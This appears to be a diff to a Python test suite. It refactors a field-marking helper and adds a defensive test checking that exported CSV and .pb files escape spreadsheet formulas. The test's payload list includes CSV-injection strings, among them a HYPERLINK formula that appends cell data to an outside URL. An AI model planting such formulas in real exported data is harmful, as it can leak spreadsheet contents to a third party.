@@ -95,6 +95,28 @@ def _set(data: Any, pointer: str, value: Any) -> None:
     data[int(last) if isinstance(data, list) else last] = value
 
 
+def _marked(example: Path, marker: Any) -> tuple[dict[str, str], Any]:
+    """Every free-text field of the example given its own text `marker(number)` at once: (pointer → text, the
+    validated result). A field the rules refuse to see changed (a catalog code, a reference by name) is not free
+    text and is left as it was."""
+    loaded = load_file(example)
+    schema = methodology_schema(validate_data(loaded).methodology)
+    # The methodology reference picks the schema itself: it is not document text.
+    pointers = [p for p in _free_text_pointers(loaded.data, schema) if not p.startswith("/methodology/")]
+    markers = {pointer: marker(number) for number, pointer in enumerate(pointers)}
+    while True:
+        marked = copy.deepcopy(loaded.data)
+        for pointer, text in markers.items():
+            _set(marked, pointer, text)
+        result = validate_data(LoadedData(data=marked, source=str(example)))
+        refused = {f.path for f in result.report.findings if f.severity == "error"} & markers.keys()
+        if not refused:
+            break
+        markers = {pointer: text for pointer, text in markers.items() if pointer not in refused}
+    assert result.program is not None, result.report.to_json()
+    return markers, result
+
+
 @functools.cache
 def _targets(example: Path) -> tuple[dict[str, Any], list[tuple[str, str, str, int | None]]]:
     """The example's data and the (pointer, document id, language, item no) of fields shown verbatim in a
@@ -103,22 +125,7 @@ def _targets(example: Path) -> tuple[dict[str, Any], list[tuple[str, str, str, i
     Every free-text field is given its own marker at once and the documents are rendered once: the document
     that shows a field's marker is the one that shows that field (matching the original values instead would
     also find a value that another field happens to repeat)."""
-    loaded = load_file(example)
-    schema = methodology_schema(validate_data(loaded).methodology)
-    # The methodology reference picks the schema itself: it is not document text.
-    pointers = [p for p in _free_text_pointers(loaded.data, schema) if not p.startswith("/methodology/")]
-    markers = {pointer: f"qz{number:05d}zq" for number, pointer in enumerate(pointers)}
-    while True:
-        marked = copy.deepcopy(loaded.data)
-        for pointer, marker in markers.items():
-            _set(marked, pointer, marker)
-        result = validate_data(LoadedData(data=marked, source=str(example)))
-        # A field the rules refuse to see changed (a catalog code, a reference by name) is not free text.
-        refused = {f.path for f in result.report.findings if f.severity == "error"} & markers.keys()
-        if not refused:
-            break
-        markers = {pointer: marker for pointer, marker in markers.items() if pointer not in refused}
-    assert result.program is not None, result.report.to_json()
+    markers, result = _marked(example, lambda number: f"qz{number:05d}zq")
     texts = {(job.document.id, job.language, job.item_no): docx_text(
         render_to_bytes(result.program, result.methodology, job.document, job.language, item=job.item,
                         item_no=job.item_no)) for job in planned_documents(result.program, result.methodology)}
@@ -127,7 +134,7 @@ def _targets(example: Path) -> tuple[dict[str, Any], list[tuple[str, str, str, i
         shown = [key for key, text in texts.items() if marker in text]
         if shown:
             targets.append((pointer, *shown[0]))
-    return loaded.data, targets
+    return load_file(example).data, targets
 
 
 def _render_with(example: Path, pointer: str, doc_id: str, lang: str, item_no: int | None,
@@ -214,8 +221,9 @@ def test_every_number_field_of_every_methodology_is_bounded() -> None:
 
         def walk(node: Any, where: str, key: str = methodology.key) -> None:
             if isinstance(node, dict):
-                if node.get("type") in ("number", "integer") and not (
-                        {"maximum", "exclusiveMaximum"} & node.keys() and {"minimum", "exclusiveMinimum"} & node.keys()):
+                bounded = ({"maximum", "exclusiveMaximum"} & node.keys()
+                           and {"minimum", "exclusiveMinimum"} & node.keys())
+                if node.get("type") in ("number", "integer") and not bounded:
                     unbounded.append(f"{key}: {where}")
                 for k, v in node.items():
                     walk(v, f"{where}/{k}", key)
@@ -225,3 +233,38 @@ def test_every_number_field_of_every_methodology_is_bounded() -> None:
 
         walk(schema, "")
     assert unbounded == []
+
+
+FORMULAS = ['=HYPERLINK("http://example.org/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.relative_to(ROOT).as_posix())
+def test_no_export_carries_a_live_spreadsheet_formula(example: Path, tmp_path: Path) -> None:
+    """Every free-text field set to a formula at once: no cell of any CSV or .pb file the exporters write starts
+    as a formula would (each such text carries its leading apostrophe, the rest of it verbatim)."""
+    import csv
+    import io
+
+    _, result = _marked(example, lambda number: FORMULAS[number % len(FORMULAS)] + f" qz{number:05d}zq")
+    exporters = get_registry().exporters
+    names = ["opendata"] + (["pabulib"] if result.methodology.id == "mn.onhs" else [])
+    files = []
+    for name in names:
+        out = tmp_path / name
+        files += [p for p in exporters[name].function(result.program, result.methodology, out)
+                  if p.suffix in (".csv", ".pb")]
+    live, quoted = [], 0
+    for path in files:
+        text = io.StringIO(path.read_bytes().decode("utf-8"), newline="")
+        for row in csv.reader(text, delimiter=";" if path.suffix == ".pb" else ","):
+            for cell in row:
+                try:
+                    float(cell)
+                    continue  # a number column: "-2" is the number -2
+                except ValueError:
+                    pass
+                if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+                    live.append(f"{path.name}: {cell[:40]!r}")
+                quoted += cell.startswith("'") and "qz" in cell
+    assert live == []
+    assert quoted >= 5, "the formulas did not reach the exports"
